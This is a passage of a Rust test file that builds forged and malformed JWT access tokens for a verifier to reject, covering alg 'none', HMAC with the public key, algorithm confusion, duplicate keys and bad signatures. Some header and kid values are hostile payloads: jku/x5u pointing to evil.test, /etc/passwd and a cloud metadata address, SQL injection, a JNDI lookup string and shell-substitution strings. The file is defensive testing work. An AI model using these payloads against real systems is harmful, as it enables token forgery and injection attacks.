//! The list. Every function adds one class; each case says what it must be rejected for.

use base64::{Engine as _, prelude::BASE64_STANDARD_NO_PAD, prelude::BASE64_URL_SAFE};
use claviger::grpc::proto::{Algorithm, TokenRejection};
use serde_json::{Value, json};

use super::{
    Attack,
    forge::{B64, Forge, Signer, claims, hmac, input, now},
};

use TokenRejection as R;

const CLAIMS: [&str; 11] = [
    "iss",
    "sub",
    "aud",
    "exp",
    "iat",
    "nbf",
    "jti",
    "client_id",
    "scope",
    "principal_type",
    "tenant",
];
const DAY: i64 = 86_400;

/// Unusual, and right all the same: what the attacks are measured against.
pub fn harmless(signer: &Signer) -> Vec<(&'static str, String)> {
    let with =
        |name: &str, value: Value| signer.compose(text(&signer.header()), text(&with(name, value)));
    let header = signer.header();
    let reversed = json!({ "typ": header["typ"], "kid": header["kid"], "alg": header["alg"] });
    let airy = format!(
        " {{ \"alg\" : \"{}\",\n\t\"kid\":\"{}\", \"typ\":\"at+jwt\" }} ",
        signer.alg, signer.kid
    );
    let mut good = vec![
        ("plain", signer.token(&claims())),
        (
            "another order",
            signer.compose(text(&reversed), text(&claims())),
        ),
        ("blanks", signer.compose(airy, text(&claims()))),
        (
            "one of many audiences",
            with("aud", json!(["other", "api"])),
        ),
        (
            "a claim that nobody knows",
            with("x", json!({ "a": [1, null, { "b": 2.5 }] })),
        ),
        ("no scope", with("scope", json!(""))),
        (
            "an escaped value",
            signer.compose(
                text(&header),
                text(&claims()).replace("somebody", r"some\u0062ody"),
            ),
        ),
    ];
    if signer.alg == "ES256" {
        // RFC 7518 knows no low-s rule, and tokens sign with either: see src/tokens/verify.rs.
        good.push((
            "the other s",
            signed_with(signer, |signature| {
                let s = sub(&order(), &signature[32..]);
                [&signature[..32], &s].concat()
            }),
        ));
    }
    good
}

/// All of them, by this key.
pub fn all(forge: &Forge, signer: &Signer) -> Vec<Attack> {
    let mut list = List {
        signer,
        attacks: Vec::new(),
    };
    list.no_signature();
    list.hmac_with_the_public_key();
    list.other_algorithms();
    list.keys_in_the_header(&Signer::new(Algorithm::Es256));
    list.other_headers();
    list.types();
    list.kids();
    list.other_keys(forge);
    list.json_of_headers();
    list.json_of_claims();
    list.encodings();
    list.shapes();
    list.signatures();
    list.claims();
    list.sizes();
    list.attacks
}

/// What is done to a right signature.
type Change = Box<dyn FnOnce(Vec<u8>) -> Vec<u8>>;

struct List<'a> {
    signer: &'a Signer,
    attacks: Vec<Attack>,
}

fn text(value: &Value) -> String {
    value.to_string()
}

fn with(name: &str, value: Value) -> Value {
    let mut claims = claims();
    claims[name] = value;
    claims
}

/// A token whose signature was changed.
fn signed_with(signer: &Signer, change: impl FnOnce(Vec<u8>) -> Vec<u8>) -> String {
    let input = input(text(&signer.header()), text(&claims()));
    let signature = change(signer.sign(input.as_bytes()));
    format!("{input}.{}", B64.encode(signature))
}

impl List<'_> {
    fn add(&mut self, name: impl Into<String>, token: String, why: TokenRejection) {
        let name = name.into();
        self.attacks.push(Attack { name, token, why });
    }

    /// Rightly signed, with this header.
    fn header(&mut self, name: impl Into<String>, header: impl AsRef<[u8]>, why: TokenRejection) {
        let token = self.signer.compose(header, text(&claims()));
        self.add(name, token, why);
    }

    /// Rightly signed, with these claims.
    fn body(&mut self, name: impl Into<String>, claims: impl AsRef<[u8]>, why: TokenRejection) {
        let token = self.signer.compose(text(&self.signer.header()), claims);
        self.add(name, token, why);
    }

    // RFC 8725 sections 2.1 and 3.1: `none`, however it is spelt, whatever stands for the signature.
    fn no_signature(&mut self) {
        for alg in [
            "none",
            "None",
            "NONE",
            "nOnE",
            "noNe",
            "none ",
            " none",
            "none\u{0}",
            "",
        ] {
            let header = text(&self.signer.header_with("alg", json!(alg)));
            let input = input(&header, text(&claims()));
            // An escape in the value is not ours either.
            let why = match header.contains('\\') {
                true => R::Malformed,
                false => R::WrongAlgorithm,
            };
            self.add(format!("alg {alg:?} unsigned"), format!("{input}."), why);
            self.add(
                format!("alg {alg:?} and a word"),
                format!("{input}.{}", B64.encode("x")),
                why,
            );
            self.header(format!("alg {alg:?} signed"), header, why);
        }
        let input = input(r#"{"alg":"none"}"#, text(&claims()));
        self.add("alg none alone", format!("{input}."), R::Malformed);
        for value in [
            json!(null),
            json!(["none"]),
            json!(0),
            json!(false),
            json!({ "": "none" }),
        ] {
            let name = format!("alg {value}");
            self.header(
                name,
                text(&self.signer.header_with("alg", value)),
                R::Malformed,
            );
        }
    }

    // RFC 8725 section 2.1: the verifier's public key as the secret of an HMAC.
    fn hmac_with_the_public_key(&mut self) {
        let public = &self.signer.public;
        let pem = public.spki_pem();
        let der = public.spki_der();
        let kid = self.signer.kid.parse().expect("a kid");
        let algorithm = self.signer.alg.parse().expect("an algorithm");
        let secrets: Vec<(&str, Vec<u8>)> = vec![
            ("PEM", pem.clone().into_bytes()),
            ("PEM without its end", pem.trim_end().as_bytes().to_vec()),
            ("PEM with CRLF", pem.replace('\n', "\r\n").into_bytes()),
            ("DER", der.clone()),
            (
                "the bits of DER",
                der[der.len().saturating_sub(65)..].to_vec(),
            ),
            ("canonical JWK", public.canonical_jwk().into_bytes()),
            ("JWK", public.jwk(&kid, algorithm).to_string().into_bytes()),
            ("kid", self.signer.kid.clone().into_bytes()),
            ("nothing", Vec::new()),
        ];
        for alg in ["HS256", "HS384", "HS512"] {
            for (name, secret) in &secrets {
                let lying = input(
                    text(&self.signer.header_with("alg", json!(alg))),
                    text(&claims()),
                );
                let token = format!("{lying}.{}", B64.encode(hmac(alg, secret, &lying)));
                self.add(format!("{alg} with {name}"), token, R::WrongAlgorithm);
                let silent = input(text(&self.signer.header()), text(&claims()));
                let token = format!("{silent}.{}", B64.encode(hmac(alg, secret, &silent)));
                self.add(format!("{alg} with {name}, unsaid"), token, R::BadSignature);
            }
        }
    }

    // RFC 8725 section 3.1: the algorithm is the key's, not the token's.
    fn other_algorithms(&mut self) {
        use aws_lc_rs::signature as s;
        for alg in [
            "ES256", "ES384", "ES512", "ES256K", "RS256", "RS384", "RS512", "PS256", "PS384",
            "PS512", "EdDSA", "Ed25519", "HS256", "RS1", "RSA1_5", "dir", "A256GCM", "es256",
            "rs256", "eddsa", "ES256 ", "RS256\t",
        ] {
            if alg == self.signer.alg {
                continue;
            }
            let why = if alg.contains('\t') {
                R::Malformed
            } else {
                R::WrongAlgorithm
            };
            let header = text(&self.signer.header_with("alg", json!(alg)));
            self.header(format!("alg {alg:?}"), header, why);
        }
        let schemes: [(&str, &'static dyn s::RsaEncoding); 5] = [
            ("RS384", &s::RSA_PKCS1_SHA384),
            ("RS512", &s::RSA_PKCS1_SHA512),
            ("PS256", &s::RSA_PSS_SHA256),
            ("PS384", &s::RSA_PSS_SHA384),
            ("PS512", &s::RSA_PSS_SHA512),
        ];
        for (alg, scheme) in schemes {
            let lying = input(
                text(&self.signer.header_with("alg", json!(alg))),
                text(&claims()),
            );
            let Some(signature) = self.signer.sign_rsa(scheme, lying.as_bytes()) else {
                return;
            };
            let token = format!("{lying}.{}", B64.encode(signature));
            self.add(format!("{alg} by an RS256 key"), token, R::WrongAlgorithm);
            let silent = input(text(&self.signer.header()), text(&claims()));
            let signature = self
                .signer
                .sign_rsa(scheme, silent.as_bytes())
                .expect("RSA");
            let token = format!("{silent}.{}", B64.encode(signature));
            self.add(
                format!("{alg} by an RS256 key, unsaid"),
                token,
                R::BadSignature,
            );
        }
    }

    // RFC 8725 sections 3.1 and 3.10, RFC 7515 section 4.1: the token brings its own key, or says where it is.
    fn keys_in_the_header(&mut self, mallory: &Signer) {
        let kid = mallory.kid.parse().expect("a kid");
        let algorithm = mallory.alg.parse().expect("an algorithm");
        let theirs = mallory.public.jwk(&kid, algorithm);
        let own: Value = serde_json::from_str(&self.signer.public.canonical_jwk()).expect("JSON");
        for (name, value) in [
            ("jwk", theirs.clone()),
            ("jwk", own),
            ("jwk", json!(null)),
            ("jku", json!("https://evil.test/jwks.json")),
            ("jku", json!("file:///etc/passwd")),
            ("jku", json!("http://169.254.169.254/")),
            ("x5u", json!("https://evil.test/cert.pem")),
            ("x5c", json!([B64.encode(mallory.public.spki_der())])),
            ("x5c", json!([])),
            ("x5t", json!(B64.encode([0; 20]))),
            ("x5t#S256", json!(B64.encode([0; 32]))),
        ] {
            let header = self.signer.header_with(name, value);
            self.header(format!("{name} by us"), text(&header), R::ForbiddenHeader);
            let input = input(text(&header), text(&claims()));
            let signature = mallory.sign(input.as_bytes());
            let token = format!("{input}.{}", B64.encode(signature));
            self.add(format!("{name} by Mallory"), token, R::ForbiddenHeader);
        }
        let token = mallory.compose(text(&self.signer.header()), text(&claims()));
        self.add("our kid, Mallory's signature", token, R::BadSignature);
    }

    // RFC 7515 section 4.1.11, RFC 7797, RFC 7516: parameters that change what the rest means.
    fn other_headers(&mut self) {
        for (name, value) in [
            ("crit", json!(["exp"])),
            ("crit", json!([])),
            ("crit", json!("exp")),
            ("crit", json!(["b64"])),
            ("crit", json!(["alg", "kid"])),
            ("b64", json!(false)),
            ("b64", json!(true)),
            ("cty", json!("JWT")),
            ("cty", json!("at+jwt")),
            ("zip", json!("DEF")),
            ("enc", json!("A256GCM")),
            ("epk", json!({})),
            ("p2c", json!(2_147_483_647)),
            ("exp", json!(1)),
            ("iss", json!("https://issuer.test")),
            ("Alg", json!("none")),
            ("ALG", json!("none")),
            ("alg ", json!("none")),
            ("KID", json!("x")),
            ("", json!("")),
            ("__proto__", json!({ "alg": "none" })),
            ("constructor", json!("x")),
            ("url", json!("https://issuer.test")),
            ("nonce", json!("x")),
        ] {
            let header = text(&self.signer.header_with(name, value));
            self.header(format!("header {name:?}"), header, R::ForbiddenHeader);
        }
        // RFC 7797: with `b64` false the claims are signed as they are.
        let header = B64.encode(text(&json!({
            "alg": self.signer.alg, "kid": self.signer.kid, "typ": "at+jwt", "b64": false, "crit": ["b64"],
        })));
        let claims = text(&claims());
        let signature = B64.encode(self.signer.sign(format!("{header}.{claims}").as_bytes()));
        let encoded = B64.encode(&claims);
        self.add(
            "b64 false, encoded",
            format!("{header}.{encoded}.{signature}"),
            R::ForbiddenHeader,
        );
        self.add(
            "b64 false, detached",
            format!("{header}..{signature}"),
            R::ForbiddenHeader,
        );
        self.add(
            "b64 false, as it is",
            format!("{header}.{claims}.{signature}"),
            R::Malformed,
        );
    }

    // RFC 8725 section 3.11, RFC 9068 sections 2.1 and 4. The latter lets a resource server take
    // `application/at+jwt` too; here only tokens that the daemon issued are verified, and it says `at+jwt`.
    fn types(&mut self) {
        for typ in [
            "JWT",
            "jwt",
            "AT+JWT",
            "At+Jwt",
            "application/at+jwt",
            "at+jwt ",
            " at+jwt",
            "at+jwt;v=1",
            "at jwt",
            "at",
            "JOSE",
            "dpop+jwt",
            "id+jwt",
            "logout+jwt",
            "secevent+jwt",
            "",
        ] {
            let header = text(&self.signer.header_with("typ", json!(typ)));
            self.header(format!("typ {typ:?}"), header, R::WrongType);
        }
        for typ in [
            json!(null),
            json!(["at+jwt"]),
            json!(1),
            json!({ "at+jwt": 1 }),
        ] {
            let header = text(&self.signer.header_with("typ", typ.clone()));
            self.header(format!("typ {typ}"), header, R::Malformed);
        }
        for missing in ["typ", "alg", "kid"] {
            let mut header = self.signer.header();
            header.as_object_mut().expect("a header").remove(missing);
            self.header(format!("no {missing}"), text(&header), R::Malformed);
        }
    }

    // RFC 8725 section 3.10: a kid is looked up, and must not be anything else on the way.
    fn kids(&mut self) {
        let kid = self.signer.kid.clone();
        let texts = [
            "",
            " ",
            "unknown",
            "../../../../../../dev/null",
            "/etc/passwd",
            "..\\..\\x",
            "file:///dev/null",
            "x' UNION SELECT 'key",
            "' OR '1'='1",
            "x'; DROP TABLE key_versions; --",
            "\u{0}",
            "a\u{0}b",
            "\r\n\r\n",
            "\u{1b}[2J",
            "\u{202e}x",
            "%00",
            "%2e%2e%2f",
            "${jndi:ldap://evil.test}",
            "$(id)",
            "`id`",
            "| id",
            "*",
            "?",
            "ключ",
            "\u{1F511}",
            "undefined",
            "null",
            "0",
            "true",
            "__proto__",
            "pkcs11:object=claviger-kek",
        ];
        let mut kids: Vec<String> = texts.map(str::to_owned).to_vec();
        kids.extend([
            format!("{kid} "),
            format!(" {kid}"),
            format!("{kid}\u{0}"),
            format!("{kid}\n"),
            format!("{kid}="),
            format!("./{kid}"),
            kid.to_lowercase(),
            kid.to_uppercase(),
            kid[..42].to_owned(),
            "a".repeat(64),
            "a".repeat(65),
            "a".repeat(8000),
        ]);
        for text_of in kids {
            if text_of == kid {
                continue;
            }
            let header = text(&self.signer.header_with("kid", json!(text_of)));
            self.header(format!("kid {text_of:.40?}"), header, R::UnknownKid);
        }
        // The right kid, spelt with an escape.
        let spelt = format!("\\u{:04x}{}", u32::from(kid.as_bytes()[0]), &kid[1..]);
        let header = format!(
            r#"{{"alg":"{}","kid":"{spelt}","typ":"at+jwt"}}"#,
            self.signer.alg
        );
        self.header("kid with an escape", header, R::UnknownKid);
        for value in [
            json!(null),
            json!(1),
            json!(1.5),
            json!([kid]),
            json!([]),
            json!({ "kid": kid }),
            json!(true),
        ] {
            let header = text(&self.signer.header_with("kid", value.clone()));
            self.header(format!("kid {value:.40}"), header, R::Malformed);
        }
    }

    /// Another key of the daemon: its kid does not go with this signature or this algorithm.
    fn other_keys(&mut self, forge: &Forge) {
        for other in &forge.signers {
            if other.alg == self.signer.alg {
                continue;
            }
            let token = self.signer.compose(
                text(&self.signer.header_with("kid", json!(other.kid))),
                text(&claims()),
            );
            self.add(format!("kid of {}", other.alg), token, R::WrongAlgorithm);
            let token = self.signer.compose(text(&other.header()), text(&claims()));
            self.add(format!("header of {}", other.alg), token, R::BadSignature);
        }
        let mallory = Signer::new(Algorithm::Eddsa);
        self.add(
            "somebody else's token",
            mallory.token(&claims()),
            R::UnknownKid,
        );
    }

    // RFC 8725 section 2.4: one text, two readings.
    fn json_of_headers(&mut self) {
        let (alg, kid) = (self.signer.alg, self.signer.kid.clone());
        let head = text(&self.signer.header());
        let inside = &head[1..head.len() - 1];
        let texts: Vec<(&str, Vec<u8>, R)> = vec![
            (
                "alg twice, none last",
                format!(r#"{{{inside},"alg":"none"}}"#).into(),
                R::Malformed,
            ),
            (
                "alg twice, none first",
                format!(r#"{{"alg":"none",{inside}}}"#).into(),
                R::Malformed,
            ),
            (
                "alg twice, the same",
                format!(r#"{{{inside},"alg":"{alg}"}}"#).into(),
                R::Malformed,
            ),
            (
                "kid twice",
                format!(r#"{{{inside},"kid":"{kid}"}}"#).into(),
                R::Malformed,
            ),
            (
                "typ twice",
                format!(r#"{{"typ":"JWT",{inside}}}"#).into(),
                R::Malformed,
            ),
            (
                "alg twice, one escaped",
                format!(r#"{{{inside},"\u0061lg":"none"}}"#).into(),
                R::Malformed,
            ),
            (
                "alg escaped",
                head.replace("\"alg\"", r#""\u0061lg""#).into(),
                R::Malformed,
            ),
            (
                "kid escaped",
                head.replace("\"kid\"", r#""k\u0069d""#).into(),
                R::Malformed,
            ),
            (
                "value of alg escaped",
                head.replace(
                    alg,
                    &format!("\\u{:04x}{}", u32::from(alg.as_bytes()[0]), &alg[1..]),
                )
                .into(),
                R::Malformed,
            ),
            (
                "value of typ escaped",
                head.replace("at+jwt", r"at\u002bjwt").into(),
                R::Malformed,
            ),
            (
                "jwk escaped",
                format!(r#"{{{inside},"\u006awk":{{}}}}"#).into(),
                R::Malformed,
            ),
            (
                "a byte order mark",
                format!("\u{feff}{head}").into(),
                R::Malformed,
            ),
            (
                "a comment before",
                format!("/**/{head}").into(),
                R::Malformed,
            ),
            (
                "a comment inside",
                format!("{{/*x*/{inside}}}").into(),
                R::Malformed,
            ),
            (
                "a line comment",
                format!("{{//\n{inside}}}").into(),
                R::Malformed,
            ),
            (
                "a comma at the end",
                format!("{{{inside},}}").into(),
                R::Malformed,
            ),
            ("two objects", format!("{head}{head}").into(), R::Malformed),
            ("an array around", format!("[{head}]").into(), R::Malformed),
            (
                "the values as a list",
                format!(r#"["{alg}","{kid}","at+jwt"]"#).into(),
                R::Malformed,
            ),
            ("a text around", text(&json!(head)).into(), R::Malformed),
            ("single quotes", head.replace('"', "'").into(), R::Malformed),
            ("no quotes", head.replace('"', "").into(), R::Malformed),
            ("null", "null".into(), R::Malformed),
            ("nothing", "".into(), R::Malformed),
            ("an empty object", "{}".into(), R::Malformed),
            ("a NUL behind", format!("{head}\0").into(), R::Malformed),
            (
                "a vertical tab",
                format!("\u{b}{head}").into(),
                R::Malformed,
            ),
            (
                "a non-breaking blank",
                format!("{{\u{a0}{inside}}}").into(),
                R::Malformed,
            ),
            (
                "NaN",
                format!("{{{inside},\"x\":NaN}}").into(),
                R::Malformed,
            ),
            (
                "invalid UTF-8",
                [&head.as_bytes()[..2], &[0xff, 0xfe], &head.as_bytes()[2..]].concat(),
                R::Malformed,
            ),
            (
                "an overlong slash",
                [&head.as_bytes()[..2], &[0xc0, 0xaf], &head.as_bytes()[2..]].concat(),
                R::Malformed,
            ),
            (
                "UTF-16",
                head.encode_utf16().flat_map(u16::to_le_bytes).collect(),
                R::Malformed,
            ),
            (
                "a lone surrogate",
                format!(r#"{{{inside},"x":"\ud800"}}"#).into(),
                R::Malformed,
            ),
            (
                "a deep bomb of lists",
                format!("{{{inside},\"x\":{}", "[".repeat(9000)).into(),
                R::Malformed,
            ),
            (
                "a deep bomb of objects",
                format!(
                    "{{{inside},\"x\":{}1{}}}",
                    r#"{"a":"#.repeat(1500),
                    "}".repeat(1500)
                )
                .into(),
                R::Malformed,
            ),
            (
                "a long number",
                format!("{{{inside},\"x\":{}}}", "9".repeat(8000)).into(),
                R::Malformed,
            ),
        ];
        for (name, header, why) in texts {
            self.header(format!("header: {name}"), header, why);
        }
    }

    fn json_of_claims(&mut self) {
        let body = text(&claims());
        let inside = &body[1..body.len() - 1];
        let list: Vec<Value> = super::object(&claims()).values().cloned().collect();
        let texts: Vec<(&str, Vec<u8>)> = vec![
            ("sub twice", format!(r#"{{{inside},"sub":"admin"}}"#).into()),
            (
                "sub twice, first",
                format!(r#"{{"sub":"admin",{inside}}}"#).into(),
            ),
            (
                "exp twice",
                format!(r#"{{{inside},"exp":9999999999}}"#).into(),
            ),
            (
                "scope twice, one escaped",
                format!(r#"{{{inside},"\u0073cope":"admin"}}"#).into(),
            ),
            (
                "an unknown claim twice",
                format!(r#"{{{inside},"x":1,"x":2}}"#).into(),
            ),
            (
                "a claim in a claim twice",
                format!(r#"{{{inside},"act":{{"sub":"a","sub":"b"}}}}"#).into(),
            ),
            (
                "sub escaped",
                body.replace("\"sub\"", r#""\u0073ub""#).into(),
            ),
            ("a byte order mark", format!("\u{feff}{body}").into()),
            ("a comment", format!("{{/*x*/{inside}}}").into()),
            ("a comma at the end", format!("{{{inside},}}").into()),
            ("two objects", format!("{body}{body}").into()),
            ("an array around", format!("[{body}]").into()),
            ("the values as a list", Value::from(list).to_string().into()),
            ("a text", "\"claims\"".into()),
            ("null", "null".into()),
            ("a number", "1".into()),
            ("nothing", "".into()),
            ("an empty object", "{}".into()),
            ("a NUL behind", format!("{body}\0").into()),
            (
                "invalid UTF-8",
                body.replace("somebody", "\u{1}")
                    .bytes()
                    .map(|b| if b == 1 { 0xff } else { b })
                    .collect(),
            ),
            (
                "a lone surrogate",
                body.replace("somebody", r"\ud800").into(),
            ),
            (
                "a raw control character",
                body.replace("somebody", "some\nbody").into(),
            ),
            (
                "UTF-16",
                body.encode_utf16().flat_map(u16::to_be_bytes).collect(),
            ),
            (
                "a deep bomb",
                format!(
                    "{{{inside},\"x\":{}{}}}",
                    "[".repeat(4000),
                    "]".repeat(4000)
                )
                .into(),
            ),
            ("a token", self.signer.token(&claims()).into()),
            (
                "a token as text",
                json!(self.signer.token(&claims())).to_string().into(),
            ),
        ];
        for (name, claims) in texts {
            self.body(format!("claims: {name}"), claims, R::BadClaim);
        }
        // RFC 8725 section 3.3: the token inside is right, the one around it is not a token of ours.
        let nested = self.signer.token(&claims());
        let header = self.signer.header_with("cty", json!("JWT"));
        let token = self.signer.compose(text(&header), nested);
        self.add("a token in a token", token, R::ForbiddenHeader);
    }

    // RFC 7515 section 2, RFC 4648 section 3.5: one spelling only.
    fn encodings(&mut self) {
        let good = self.signer.token(&claims());
        let parts: Vec<String> = good.split('.').map(str::to_owned).collect();
        let with = |i: usize, part: String| {
            let mut parts = parts.clone();
            parts[i] = part;
            parts.join(".")
        };
        for (i, part) in ["header", "claims", "signature"].into_iter().enumerate() {
            let bytes = B64.decode(&parts[i]).expect("base64url");
            let long = &parts[i];
            for (name, spelt) in [
                ("one =", format!("{long}=")),
                ("two =", format!("{long}==")),
                ("= before", format!("={long}")),
                ("a blank before", format!(" {long}")),
                ("a blank behind", format!("{long} ")),
                ("a line end", format!("{long}\n")),
                (
                    "a line end inside",
                    format!("{}\r\n{}", &long[..8], &long[8..]),
                ),
                ("a tab inside", format!("{}\t{}", &long[..8], &long[8..])),
                ("a NUL", format!("{long}\0")),
                (
                    "six bits too many",
                    format!("{long}{}", "A".repeat((5 - long.len() % 4) % 4)),
                ),
                (
                    "percent encoding",
                    format!("%{:02x}{}", long.as_bytes()[0], &long[1..]),
                ),
                ("a letter like another", format!("\u{435}{}", &long[1..])),
                (
                    "base64 of base64url",
                    format!("{}+", &long[..long.len() - 1]),
                ),
                ("a slash", format!("{}/", &long[..long.len() - 1])),
            ] {
                self.add(format!("{part}: {name}"), with(i, spelt), R::Malformed);
            }
            let padded = BASE64_URL_SAFE.encode(&bytes);
            let standard = BASE64_STANDARD_NO_PAD.encode(&bytes);
            for spelt in [padded, standard] {
                if spelt != parts[i] {
                    self.add(format!("{part}: {spelt:.8}…"), with(i, spelt), R::Malformed);
                }
            }
        }
        // Claims and a signature whose last character has bits to spare: the same bytes, another text.
        for (i, part) in parts.iter().enumerate() {
            for spare in spare_bits(part) {
                self.add(
                    format!("part {i}: trailing bits"),
                    with(i, spare),
                    R::Malformed,
                );
            }
        }
        // Rightly signed over the padded text: the signature holds, the spelling does not.
        let padded = BASE64_URL_SAFE.encode(format!("{} ", text(&self.signer.header())));
        let padded = match padded.ends_with('=') {
            true => padded,
            false => BASE64_URL_SAFE.encode(format!("{}  ", text(&self.signer.header()))),
        };
        let input = format!("{padded}.{}", parts[1]);
        let signature = B64.encode(self.signer.sign(input.as_bytes()));
        self.add(
            "signed with padding",
            format!("{input}.{signature}"),
            R::Malformed,
        );
    }

    /// Not three parts, or not the compact form.
    fn shapes(&mut self) {
        let good = self.signer.token(&claims());
        let parts: Vec<&str> = good.split('.').collect();
        let [header, body, signature] = parts[..] else {
            panic!("three parts")
        };
        let flattened = json!({ "protected": header, "payload": body, "signature": signature });
        let general = json!({ "payload": body, "signatures": [{ "protected": header, "signature": signature }] });
        let jwe = input(r#"{"alg":"RSA-OAEP","enc":"A256GCM"}"#, "key");
        let own_jwe = B64.encode(text(&json!({
            "alg": self.signer.alg, "kid": self.signer.kid, "typ": "at+jwt", "enc": "A256GCM",
        })));
        for (name, token) in [
            ("a dot", ".".to_owned()),
            ("two dots", "..".into()),
            ("three dots", "...".into()),
            ("a word", "token".into()),
            ("header alone", header.into()),
            ("no signature part", format!("{header}.{body}")),
            ("no header", format!(".{body}.{signature}")),
            ("no header part", format!("{body}.{signature}")),
            ("a part behind", format!("{good}.")),
            ("a part before", format!(".{good}")),
            ("four parts", format!("{good}.{signature}")),
            ("twice", format!("{good}.{good}")),
            ("a JWE", format!("{jwe}.a.b.c")),
            ("a JWE with our header", format!("{own_jwe}.a.b.c.d")),
            ("JSON, flattened", flattened.to_string()),
            ("JSON, general", general.to_string()),
            ("JSON with dots", json!({ "token": good }).to_string()),
            ("Bearer", format!("Bearer {good}")),
            ("bearer", format!("bearer {good}")),
            ("DPoP", format!("DPoP {good}")),
            ("quotes", format!("\"{good}\"")),
            ("a comma", format!("{good},{good}")),
            ("an unsecured SD-JWT", format!("{good}~")),
            ("a full-width dot", good.replace('.', "\u{ff0e}")),
            ("a base64 of it all", B64.encode(&good)),
        ] {
            self.add(format!("shape: {name}"), token, R::Malformed);
        }
        self.add("header empty", format!(".{body}.{signature}"), R::Malformed);
        self.add(
            "claims left out",
            format!("{header}..{signature}"),
            R::BadSignature,
        );
        let input = format!("{header}.");
        let detached = B64.encode(self.signer.sign(input.as_bytes()));
        self.add(
            "claims left out, signed",
            format!("{input}.{detached}"),
            R::BadClaim,
        );
    }

    // RFC 7518 sections 3.3 and 3.4, RFC 8037: exactly the form of the algorithm.
    fn signatures(&mut self) {
        let signer = self.signer;
        let good = signer.sign(b"");
        let len = good.len();
        let mut changes: Vec<(String, Change)> = vec![
            ("empty".into(), Box::new(|_| Vec::new())),
            ("one zero".into(), Box::new(|_| vec![0])),
            ("all zero".into(), Box::new(move |_| vec![0; len])),
            ("all ones".into(), Box::new(move |_| vec![0xff; len])),
            (
                "one byte less".into(),
                Box::new(|s| s[..s.len() - 1].to_vec()),
            ),
            ("one byte less before".into(), Box::new(|s| s[1..].to_vec())),
            (
                "a zero behind".into(),
                Box::new(|s| [&s[..], &[0]].concat()),
            ),
            (
                "a zero before".into(),
                Box::new(|s| [&[0], &s[..]].concat()),
            ),
            ("twice".into(), Box::new(|s| [&s[..], &s[..]].concat())),
            (
                "reversed".into(),
                Box::new(|s| s.into_iter().rev().collect()),
            ),
            (
                "halves swapped".into(),
                Box::new(|s| [&s[s.len() / 2..], &s[..s.len() / 2]].concat()),
            ),
            ("DER of halves".into(), Box::new(|s| der(&s))),
            (
                "in hex".into(),
                Box::new(|s| {
                    s.iter()
                        .flat_map(|b| format!("{b:02x}").into_bytes())
                        .collect()
                }),
            ),
            ("in base64".into(), Box::new(|s| B64.encode(s).into_bytes())),
            ("over something else".into(), Box::new(|_| good)),
            (
                "a bit in the middle".into(),
                Box::new(|mut s| {
                    let middle = s.len() / 2;
                    s[middle] ^= 1;
                    s
                }),
            ),
            ("12 kB".into(), Box::new(|_| vec![0x5a; 11_000])),
        ];
        match signer.alg {
            "ES256" => {
                let half = |value: [u8; 32]| value;
                let (zero, one, n) = (half([0; 32]), half(number(1)), order());
                for (name, r, s) in [
                    ("r = 0", Some(zero), None),
                    ("s = 0", None, Some(zero)),
                    ("r = n", Some(n), None),
                    ("s = n", None, Some(n)),
                    ("r = s = 0", Some(zero), Some(zero)),
                    ("r = s = 1", Some(one), Some(one)),
                    ("r = s = n", Some(n), Some(n)),
                    ("r = 0, s = 1", Some(zero), Some(one)),
                    ("r = 1, s = 0", Some(one), Some(zero)),
                    ("r = 1, s = n", Some(one), Some(n)),
                ] {
                    changes.push((
                        name.into(),
                        Box::new(move |old| {
                            let r = r.map_or_else(|| old[..32].to_vec(), |r| r.to_vec());
                            let s = s.map_or_else(|| old[32..].to_vec(), |s| s.to_vec());
                            [r, s].concat()
                        }),
                    ));
                }
                changes.push((
                    "zeros before both".into(),
                    Box::new(|s| [&[0], &s[..32], &[0], &s[32..]].concat()),
                ));
                changes.push((
                    "n - r".into(),
                    Box::new(|s| [&sub(&order(), &s[..32]), &s[32..]].concat()),
                ));
                changes.push((
                    "both negative".into(),
                    Box::new(|s| [sub(&order(), &s[..32]), sub(&order(), &s[32..])].concat()),
                ));
            }
            "EdDSA" => {
                changes.push(("S + L".into(), Box::new(|s| plus_order_of_ed25519(&s))));
                changes.push((
                    "R of small order".into(),
                    Box::new(|s| [&[1], &[0; 31][..], &s[32..]].concat()),
                ));
                changes.push((
                    "small order, S = 0".into(),
                    Box::new(|_| [&[1], &[0; 63][..]].concat()),
                ));
                changes.push((
                    "a high bit in S".into(),
                    Box::new(|mut s| {
                        s[63] |= 0x80;
                        s
                    }),
                ));
            }
            _ => {
                changes.push((
                    "1".into(),
                    Box::new(|s| [vec![0; s.len() - 1], vec![1]].concat()),
                ));
                let n = match &signer.public {
                    claviger::model::PublicKey::Rsa { n, .. } => n.clone(),
                    other => panic!("{other:?}"),
                };
                let modulus = n.clone();
                changes.push(("n".into(), Box::new(move |_| modulus)));
                changes.push(("n - s".into(), Box::new(move |s| sub(&n, &s))));
                changes.push((
                    "PKCS#1 padding, not signed".into(),
                    Box::new(|s| {
                        let mut padded = vec![0xff; s.len()];
                        (padded[0], padded[1]) = (0, 1);
                        padded[s.len() - 52] = 0;
                        padded
                    }),
                ));
            }
        }
        for (name, change) in changes {
            let token = signed_with(signer, change);
            self.add(format!("signature: {name}"), token, R::BadSignature);
        }
        let good = signer.token(&claims());
        let (input_of, signature) = good.rsplit_once('.').expect("parts");
        let (header, _) = input_of.split_once('.').expect("parts");
        let admin = B64.encode(text(&with("sub", json!("admin"))));
        self.add(
            "claims of another",
            format!("{header}.{admin}.{signature}"),
            R::BadSignature,
        );
        let airy = B64.encode(format!("{} ", text(&signer.header())));
        let body = input_of.split_once('.').expect("parts").1;
        self.add(
            "a header respelt",
            format!("{airy}.{body}.{signature}"),
            R::BadSignature,
        );
    }

    // R-JWT-2: each claim there, of its type, and right.
    fn claims(&mut self) {
        let numbers = ["exp", "iat", "nbf"];
        for name in CLAIMS {
            let mut without = claims();
            without.as_object_mut().expect("claims").remove(name);
            self.body(format!("no {name}"), text(&without), R::BadClaim);
            let upper = text(&claims()).replace(
                &format!("\"{name}\""),
                &format!("\"{}\"", name.to_uppercase()),
            );
            self.body(format!("{name} in capitals"), upper, R::BadClaim);
            let value = claims()[name].clone();
            let mut wrong = vec![
                json!(null),
                json!(true),
                json!({}),
                json!({ name: value }),
                json!([[value]]),
            ];
            if name != "aud" {
                wrong.push(json!([]));
                wrong.push(json!([value]));
            }
            match value {
                Value::Number(number) => wrong.extend([
                    json!(number.to_string()),
                    json!(""),
                    json!(number.as_i64().expect("an integer") as f64),
                    json!(number.as_i64().expect("an integer") as f64 + 0.5),
                    json!(1e300),
                    json!(-1e300),
                    json!(u64::MAX),
                ]),
